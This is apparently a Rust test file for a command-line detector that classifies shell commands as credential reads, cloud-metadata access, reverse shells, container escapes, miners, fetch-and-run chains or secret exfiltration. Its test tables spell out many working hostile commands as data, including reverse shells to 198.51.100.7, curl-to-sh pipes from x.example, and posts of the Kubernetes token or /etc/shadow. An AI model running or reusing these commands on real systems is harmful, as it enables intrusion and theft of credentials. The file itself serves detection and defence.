//! Commands, and what each question says of them.

use super::*;

#[test]
fn commands_are_seen_for_what_they_do() {
    type Question = fn(&Command) -> bool;
    let table: &[(Question, &[&str], &[&str])] = &[
        (
            Command::reads_credentials,
            &[
                "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
                "cat /proc/1/environ",
                "strings /proc/42/environ",
                "cat /e?c/sh*ow",
                "cat /var/run/secrets/*/serviceaccount/tok?n",
                "c'a't /etc/sha\\dow",
                "echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | sh",
            ],
            &[
                "cat /etc/hostname",
                "env",
                "ls /etc/*",
                "ls /etc/h*",
                "cat /opt/sh?dow",
                "ls /proc/1",
            ],
        ),
        (
            Command::reaches_metadata,
            &[
                "curl -s http://169.254.169.254/latest/meta-data/",
                "curl metadata.google.internal",
                "curl http://2852039166/latest",
                "curl 0xa9fea9fe",
                "curl http://0251.0376.0251.0376/",
                "curl http://169.254.43518/",
                "curl http://0xa9.0xfe.0xa9.0xfe:80/",
                "curl http://[::ffff:a9fe:a9fe]/",
                "curl 100.100.100.200.",
                "curl http://169.254.170.23/v1/credentials",
            ],
            &[
                "curl http://10.0.0.1/",
                "sleep 2852039167",
                "curl 169.254.169.253",
                "ls 1.2.3.4.5 256.1.1.1",
            ],
        ),
        (
            Command::is_reverse_shell,
            &[
                "bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
                "rm f; mkfifo f; cat f | sh -i 2>&1 | nc 198.51.100.7 4444 > f",
                "ncat --ssl 198.51.100.7 4444 -e /bin/bash",
                "sh -c '/usr/bin/nc 198.51.100.7 4444 -nve sh;'",
                "netcat --exec bash 198.51.100.7 4444",
                "gawk BEGIN{s=\"/inet/tcp/0/198.51.100.7/4444\"}",
                "perl -e use Socket;socket(S,PF_INET,SOCK_STREAM,6);exec(\"/bin/sh -i\")",
                "mkfifo s; sh -i < s 2>&1 | openssl s_client -quiet -connect 198.51.100.7:443 > s",
                "node -e require('net').connect(443,'x');require('child_process').spawn('sh') net.connect",
                "ruby -rsocket -e f=TCPSocket.open(\"198.51.100.7\",4444)",
                "zsh -c zmodload zsh/net/tcp && ztcp 198.51.100.7 4444",
            ],
            &[
                "openssl s_client -connect db:5432",
                "perl -e use Socket",
                "nc -z db 5432",
                "bash -i",
                "bash -c nc -vz db 1",
                "sh -e bash",
            ],
        ),
        (
            Command::enters_node,
            &[
                "nsenter -t 1 -m -u -n -i sh",
                "/usr/bin/nsenter --target=1 --mount bash",
                "nsenter --mount=/proc/1/ns/mnt sh",
                "sh -c chroot /host",
                "chroot /proc/1/root/ bash",
                "chroot --userspec=0 /rootfs sh",
                "chroot --userspec 0 /host bash",
                "chroot /mnt/host sh",
                "nsenter -at 1",
                "nsenter -at1",
                "nsenter -mt 1 sh",
            ],
            &[
                "nsenter --net=/proc/1/ns/net ss -lnt",
                "nsenter -t 77 -n ss",
                "chroot /srv/jail sh",
                "ls /host",
                "chroot /hosting sh",
            ],
        ),
        (
            Command::is_miner,
            &["/tmp/.x -o stratum+tcp://pool.example.net:3333", "./xmrig --donate-level 1"],
            &["/app/miner-dashboard", "determiner"],
        ),
        (
            Command::downloads,
            &[
                "wget -q http://198.51.100.23/x -O /tmp/.x",
                "sh -c 'curl -fsSL https://x.example'",
                "/usr/bin/wget -q 198.51.100.23/x",
                "curl x.example:8080",
                "w''get x.example/a",
            ],
            &[
                "echo https://x.example",
                "curl --version",
                "wget -O /tmp/x",
                "echo x.example; curl -V",
            ],
        ),
        (
            Command::runs_what_it_fetches,
            &[
                "sh -c curl -fsSL http://198.51.100.23/w.sh | sh",
                "echo aGk= | base64 -d | /bin/bash",
                "wget http://x.example/a -O a && chmod +x a && ./a",
                "cu''rl x.example/a | b\\ash",
                "sh -c sh -c \"$(curl -s http://x.example/a)\"",
                "sh -c $(curl -s http://x.example/a)",
                "bash -c bash -c \"$(wget -qO- http://198.51.100.23/a)\"",
                "sh -c sh -c \"`curl -s http://x.example/a`\"",
                "sh -c eval \"$(curl -fsSL http://x.example/a)\"",
                "bash -c bash <(curl -s http://x.example/a)",
                "bash -c source <(curl -s http://x.example/a)",
                "sh -c curl -s http://x.example/a | tee /tmp/a; sh /tmp/a",
                "sh -c curl -so /tmp/a http://x.example/a && bash /tmp/a",
                "sh -c wget -O /tmp/a http://x.example/a; chmod 755 /tmp/a; /tmp/a",
                "sh -c curl -s http://x.example/a | xargs -0 sh -c",
                "sh -c while true; do c=$(curl -s http://x.example/c); sh -c \"$c\"; sleep 60; done",
                "python3 -c import urllib.request;exec(urllib.request.urlopen('http://x.example/a').read())",
                "node -e fetch('http://x.example/a').then(r=>r.text()).then(eval)",
                "perl -MLWP::Simple -e eval get('http://x.example/a')",
            ],
            &[
                "curl https://x.example | jq .",
                "cat a.sh | sh",
                "sh -c VERSION=$(curl -s https://x.example/version); echo $VERSION",
                "sh -c echo \"$(curl -s https://x.example)\"",
                "sh -c [ \"$(curl -s https://x.example)\" = ok ]",
                "sh -c curl -so /tmp/a https://x.example/a; sh /tmp/b",
                "sh -c wget -O /tmp/a https://x.example/a; chmod 600 /tmp/a",
                "python3 -c import urllib.request;print(urllib.request.urlopen('http://x.example/a').read())",
            ],
        ),
        (
            Command::sends_credentials_out,
            &[
                "sh -c curl -s -d @/var/run/secrets/kubernetes.io/serviceaccount/token https://x.example/c",
                "sh -c env | curl -s -X POST -d @- https://x.example/c",
                "sh -c printenv | nc x.example 80",
                "sh -c curl -s http://169.254.169.254/latest/meta-data/iam/ | curl -d @- https://x.example",
                "sh -c T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token); curl -H \"Authorization: $T\" https://a/b | curl -F a=@- https://x.example",
                "sh -c wget --post-file=/etc/shadow http://x.example",
            ],
            &[
                "sh -c curl -d @body.json https://x.example",
                "sh -c env | sort",
                "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
                "sh -c curl -d \"{\\\"jwt\\\": \\\"$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\\\"}\" https://vault.example/v1/auth/kubernetes/login",
                "sh -c env FOO=bar curl -d x https://x.example",
            ],
        ),
        (
            Command::only_looks,
            &[
                "curl http://localhost:8080/healthz",
                "curl http://payments:8080/health",
                "wget -qO- http://web.shop.svc.cluster.local/",
                "curl -I https://api.example.com",
            ],
            &[
                "curl http://2852039166/latest",
                "curl https://api.example.com",
                "curl http://payments/ http://198.51.100.7/",
                "sh -c curl http://payments/; curl x.example",
            ],
        ),
        (
            Command::archives_to_stdout,
            &[
                "tar cf - /data",
                "sh -c tar -czf - /data",
                "/bin/tar -C /data -c .",
                "tar --create --file=- /data",
                "tar c /data | nc x 1",
            ],
            &["tar xf -", "start cf -", "tar -C /tmp -xf -", "tar cf /tmp/a.tar /data", "ls tar"],
        ),
    ];
    for (question, yes, no) in table {
        for line in *yes {
            assert!(question(&Command::new(line)), "{line}");
        }
        for line in *no {
            assert!(!question(&Command::new(line)), "{line}");
        }
    }
}

#[test]
fn what_is_shown_is_cut_and_redacted() {
    assert_eq!(shown("mysql --password=hunter2", 80), "mysql --password=«redacted»");
    assert_eq!(shown("äöü", 2), "äö…");
}
